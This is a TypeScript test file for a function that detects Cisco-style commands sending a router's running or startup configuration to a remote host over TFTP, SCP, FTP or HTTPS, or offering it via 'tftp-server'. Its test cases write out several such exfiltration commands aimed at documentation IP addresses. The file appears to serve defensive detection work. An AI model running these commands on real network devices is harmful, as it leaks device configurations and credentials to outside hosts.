import { describe, expect, it } from 'vitest';
import { runCases } from '../../../test/harness/run-cases.ts';
import { deedOf } from './deeds.ts';

runCases(import.meta.dirname);

describe('deedOf', () => {
  it.each([
    ['copy running-config tftp://203.0.113.67/x', 'tftp', '203.0.113.67'],
    ['do cop start scp://u@192.0.2.9:/x', 'scp', '192.0.2.9'],
    ['copy /noverify nvram:startup-config ftp://u:p@[2001:db8::9]/x', 'ftp', '2001:db8::9'],
    ['copy system:running-config https://Files.Example.net:8443/x', 'https', 'files.example.net'],
    ['show run | redirect tftp://203.0.113.67/x', 'tftp', '203.0.113.67'],
    ['show tech-support | tee /append ftp://192.0.2.9/x', 'ftp', '192.0.2.9'],
    ['copy running-config tftp:', 'tftp', ''],
  ])('%s', (command, protocol, host) => {
    expect(deedOf(command)).toEqual({ kind: 'send', place: { protocol, host } });
  });

  it('takes an offer by TFTP of the configuration, not of an image', () => {
    expect(deedOf('tftp-server nvram:startup-config 20')?.kind).toBe('offer');
    expect(deedOf('tftp-server flash:image.bin')).toBeNull();
    expect(deedOf('no tftp-server nvram:startup-config')).toBeNull();
  });

  it.each([
    'show running-config',
    'show running-config | include tftp://203.0.113.67/x',
    'copy running-config startup-config',
    'copy tftp://192.0.2.9/x running-config',
    'copy flash:image.bin ftp://192.0.2.9/x',
    'show version | redirect tftp://192.0.2.9/x',
    'write memory',
    '',
  ])('leaves alone: %s', (command) => {
    expect(deedOf(command)).toBeNull();
  });
});
